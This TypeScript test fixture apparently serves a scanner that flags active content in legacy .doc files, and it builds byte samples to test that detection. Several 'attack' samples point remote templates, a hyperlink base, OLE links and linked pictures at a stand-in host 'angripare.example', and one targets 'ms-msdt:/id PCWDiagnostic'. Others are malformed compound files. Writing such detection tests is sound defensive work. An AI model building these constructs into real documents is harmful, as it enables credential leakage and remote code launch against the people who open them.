import { docOf } from "../files.ts";

type Attack = [what: string, fileName: string, data: Buffer, code: string];

const address = "e0c9ea79f9bace118c8200aa004ba90b";
const file = "0303000000000000c000000000000046";
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};
const utf16 = (text: string) => Buffer.from(text, "utf16le");

/** A link as the stream `Data` holds it, beside the code of its field. */
export function linkObject(target: string, moniker = address): Buffer {
  const written = utf16(`${target}\0`);
  const head = [Buffer.from("d0c9ea79f9bace118c8200aa004ba90b", "hex"), u32(2), u32(3), Buffer.from(moniker, "hex")];
  return Buffer.concat([...head, u32(written.length), written]);
}

/** A table of a shape's properties: the picture, its name, and whether it is kept outside. */
function shape(name: string, flags: number): Buffer {
  const written = utf16(`${name}\0`);
  const properties = [
    [0x4104, 1],
    [0xc105, written.length],
    [0x0106, flags],
  ].map(([id = 0, value = 0]) => Buffer.concat([u32(id).subarray(0, 2), u32(value)]));
  const head = Buffer.from([0x33, 0x00, 0x0b, 0xf0]);
  return Buffer.concat([head, u32(18 + written.length), ...properties, written]);
}

const pictureHead = Buffer.concat([u32(0x60), Buffer.from([0x44, 0, 0x66, 0]), Buffer.alloc(0x58)]);
const unc = "\\\\angripare.example\\x";
const inData = (part: Buffer) => docOf([], undefined, { streams: { Data: part } });
const inProperties = (part: Buffer) =>
  docOf([], undefined, { streams: { "\u0005DocumentSummaryInformation": Buffer.concat([Buffer.alloc(52), part]) } });
const associated = (...names: string[]) => docOf([], undefined, { associated: names });

/** Renames an entry of a compound file. */
function renamed(bytes: Buffer, from: string, to: string): Buffer {
  const all = Buffer.from(bytes);
  utf16(to).copy(all, all.indexOf(utf16(from)));
  return all;
}

/** Makes the root's first entry the only one that is found from it. */
function unlinked(bytes: Buffer): Buffer {
  const all = Buffer.from(bytes);
  all.writeUInt32LE(0xffffffff, all.indexOf(utf16("WordDocument")) + 72);
  return all;
}

export const activeDocs: Attack[] = [
  ...(
    [
      ["140 an old document's template on a share", associated(`${unc}\\mall.dot`)],
      ["140 an old document's template on a site", associated("https://angripare.example/mall.dot")],
      ["140 an old document's template by its file's address", associated("file://angripare.example/mall.dot")],
      ["140 an old letter's data on a share", associated("", "", "", "", "", "", "", unc)],
      ["141 an old document's base of links on a share", inProperties(utf16(`${unc}\\`))],
      ["141 the same at an odd byte", inProperties(Buffer.concat([Buffer.alloc(1), utf16(`${unc}\\`)]))],
      ["141 the same in 8-bit characters", inProperties(Buffer.from(`${unc}\\`))],
      ["141 the same as an address", inProperties(utf16("file://angripare.example/x"))],
      ["141 the same with other strokes", inProperties(utf16("//angripare.example/x"))],
      ["142 an old document's link whose data lead elsewhere", inData(linkObject("file://angripare.example/x.exe"))],
      ["142 the same to a program", inData(linkObject("ms-msdt:/id PCWDiagnostic"))],
      ["142 the same to a file", inData(linkObject("x", file))],
      ["143 an old document's linked picture", inData(pictureHead)],
      ["143 an old document's shape with a linked picture", inData(shape("https://angripare.example/a.png", 10))],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.doc", data, "FILE_ACTIVE"]),
  ...(
    [
      ["144 two streams of one name", renamed(docOf(["WordDocumenu"]), "WordDocumenu", "WordDocument")],
      [
        "145 a compound file in no order",
        renamed(renamed(renamed(docOf(["1Table"]), "0Table", "2Table"), "1Table", "0Table"), "2Table", "1Table"),
      ],
      ["145 an entry that the tree does not reach", unlinked(docOf(["\u0005SummaryInformation"]))],
      ["146 a link whose data do not end", inData(Buffer.concat([linkObject("").subarray(0, 40), u32(9_000)]))],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.doc", data, "FILE_CONTENT"]),
];

export const ordinaryDocs: [what: string, data: Buffer][] = [
  ...["Normal.dotm", "C:\\Users\\anna\\Mallar\\Brev.dot", "Macintosh HD:Mallar:Brev.dot", ""].map(
    (name): [string, Buffer] => [`the template ${name}`, associated(name, "Avtal: 1//2", "a\\\\b")],
  ),
  ["a link's data", inData(linkObject("https://example.se/a?b=c"))],
  [
    "links among its properties",
    inProperties(utf16("https://example.se/ file:///C:\\bilder\\a.png http://www.w3.org/ a//b \\\\")),
  ],
  ["a picture that has its former place for a name", inData(shape("\\\\skolan\\bilder\\logga.png", 0))],
];
